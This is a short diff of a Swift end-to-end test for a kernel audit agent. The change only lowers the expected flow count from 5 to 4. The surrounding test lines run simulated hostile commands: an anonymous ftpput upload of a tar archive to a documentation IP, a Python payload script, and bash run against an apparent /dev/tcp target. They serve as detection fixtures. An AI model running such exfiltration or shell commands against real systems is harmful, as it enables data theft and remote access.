@@ -65,7 +65,7 @@ extension KernelAuditTests.FlowEndToEnd {
         _ = try client(cron, ["-c", "\(work)/.bin/ftpput -u anonymous -p x 203.0.113.10 upload/bb.tar \(archive); true"])
         let python = try client(cron, ["-c", "/usr/bin/python3 \(script) \(payload); true"])
         let bash = try client(cron, ["-c", "/bin/bash \(devtcp); true"])
-        let flows = try stop(agent, expecting: 5)
+        let flows = try stop(agent, expecting: 4)
         let alerts = try readAlerts()
         let rules = { (pid: Int?) in Set(alerts.filter { $0.pid == pid }.map(\.rule)) }
 
